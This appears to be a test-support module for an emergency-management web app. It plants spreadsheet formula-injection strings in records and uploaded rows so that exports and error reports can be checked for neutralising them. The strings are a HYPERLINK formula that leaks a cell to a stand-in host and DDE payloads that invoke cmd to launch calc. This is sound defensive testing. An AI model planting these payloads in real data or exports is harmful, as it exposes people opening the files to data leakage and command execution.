"""Formula-like strings planted in the records of 应急准备与处置, through the services, for
``test_export_formulas``: each planter writes one record of a ledger's kind by the district
official of 杨浦区 (who downloads the ledger) and returns the strings that must come back as
text. Free-text fields only: phones, numbers and choices are checked by the services."""

from datetime import date

from django.urls import reverse
from django.utils import timezone

from anjian.emergency.models import Supply
from anjian.emergency.tests import factories_resources as make
from anjian.emergency.tests.factories_plans import in_force
from anjian.enterprises.services import enterprise_update
from testsupport import world

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-1+cmd|' /C calc'!A0"


def official():
    return world.actor("district_official")


def plant_plan() -> list[str]:
    from anjian.emergency.tests.factories_plans import government_plan

    government_plan(official(), title=FORMULA, edition=PLUS, risks=AT)
    return [FORMULA, PLUS, AT]


def plant_drill() -> list[str]:
    from anjian.emergency.tests.factories_plans import drill

    drill(official(), title=FORMULA, place=AT)
    return [FORMULA, AT]


def plant_team() -> list[str]:
    make.team(official(), name=FORMULA, leader=PLUS, equipment_summary=AT, address=MINUS)
    return [FORMULA, PLUS, AT, MINUS]


def plant_warehouse() -> list[str]:
    make.warehouse(official(), name=FORMULA, manager=PLUS, address=AT)
    return [FORMULA, PLUS, AT]


def plant_supply() -> list[str]:
    store = make.warehouse(official(), name=MINUS)
    make.supply(store, official(), name=FORMULA, spec=AT, batch=PLUS, quantity=3)
    return [MINUS, FORMULA, AT, PLUS]


def plant_equipment() -> list[str]:
    make.equipment(official(), name=FORMULA, category=AT, spec=PLUS)
    return [FORMULA, AT, PLUS]


def plant_shelter() -> list[str]:
    make.shelter(official(), name=FORMULA, facilities=AT, manager=PLUS)
    return [FORMULA, AT, PLUS]


def plant_expert() -> list[str]:
    make.expert(official(), name=FORMULA, title=PLUS, employer=AT)
    return [FORMULA, PLUS, AT]


def plant_incident() -> list[str]:
    from anjian.emergency.tests.factories_incidents import incident

    incident(official(), title=FORMULA, place=AT, summary=PLUS, subtype=MINUS)
    return [FORMULA, AT, PLUS, MINUS]


def plant_movements() -> list[str]:
    """A stock line moved with a planted reason (the stock ledger: 出入库台账)."""
    from anjian.emergency import services_resources as services

    store = make.warehouse(official(), name=AT)
    line = make.supply(store, official(), name=FORMULA)
    services.stock_receive(official(), supply_id=line.pk, quantity=5, reason=PLUS)
    return [AT, FORMULA, PLUS]


def ledger_url(name: str) -> str:
    """The URL of the ledger ``name`` (warehouse_ledger, supply_ledger) of what
    ``plant_movements`` moved."""
    line = Supply.objects.get(name=FORMULA, warehouse__name=AT)
    return reverse(name, args=[line.warehouse_id if "warehouse" in name else line.pk])


def plant_unit() -> list[str]:
    """殷行化工 renamed, with a comprehensive plan in force since last year (so it owes
    this year's drill: a row of 演练完成情况)."""
    in_force(on=date(timezone.localdate().year - 1, 3, 2))
    unit = world.enterprise("yinhang_chemical")  # by name: renamed once the plan is made
    enterprise_update(
        by=official(), enterprise_id=unit.pk, data={"name": FORMULA}, expected_version=unit.version
    )
    return [FORMULA]


# An uploaded row, one hostile string in each importable cell (every cell wrong somewhere,
# so the row is refused and the error report hands the file back).
HOSTILE = (FORMULA, AT, PLUS, MINUS)


def hostile_row(headers: list[str]) -> list[str]:
    return [HOSTILE[n % len(HOSTILE)] for n in range(len(headers))]
